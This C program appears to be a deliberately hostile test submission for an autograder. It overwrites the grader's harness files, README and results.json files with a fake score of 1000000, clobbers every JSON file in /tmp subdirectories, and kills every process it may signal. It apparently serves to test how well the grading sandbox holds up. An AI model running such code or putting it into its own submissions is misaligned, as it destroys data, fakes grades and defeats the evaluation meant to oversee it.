/* Hostile submission: tries to rewrite the grader and its results, then to kill
 * every process it can. The repository is found from this program's own path
 * (…/build/submissions/…); results are looked for where the grader keeps them,
 * Gradescope's /autograder/results included. */
#include <glob.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void
deface(const char *path)
{
	FILE *file = fopen(path, "w");

	if (file != NULL) {
		fputs("{\"score\": 1000000}\n", file);
		fclose(file);
		printf("TAMPERED: %s\n", path);
	}
}

int
main(void)
{
	char self[4096], path[4200], *build;
	ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
	const char *victims[] = {"harness/plugin.py", "harness/graders/test_01_udp_local.py",
				 "harness/report.py", "README.md"};
	const char *autograder = getenv("SOCKLAB_AUTOGRADER_ROOT");
	glob_t found;
	size_t i;

	if (n > 0) {
		self[n] = '\0';
		if ((build = strstr(self, "/build/")) != NULL) {
			*build = '\0';
			for (i = 0; i < sizeof victims / sizeof victims[0]; i++) {
				snprintf(path, sizeof path, "%s/%s", self, victims[i]);
				deface(path);
			}
		}
	}
	snprintf(path, sizeof path, "%s/results/results.json", autograder ? autograder : "/autograder");
	deface(path);
	if (glob("/tmp/*/results.json", 0, NULL, &found) == 0) {
		for (i = 0; i < found.gl_pathc; i++)
			deface(found.gl_pathv[i]);
		globfree(&found);
	}
	if (glob("/tmp/*/*.json", 0, NULL, &found) == 0) {
		for (i = 0; i < found.gl_pathc; i++)
			deface(found.gl_pathv[i]);
		globfree(&found);
	}
	fflush(stdout);
	kill(-1, SIGKILL);	/* every process we may signal */
	return 0;
}
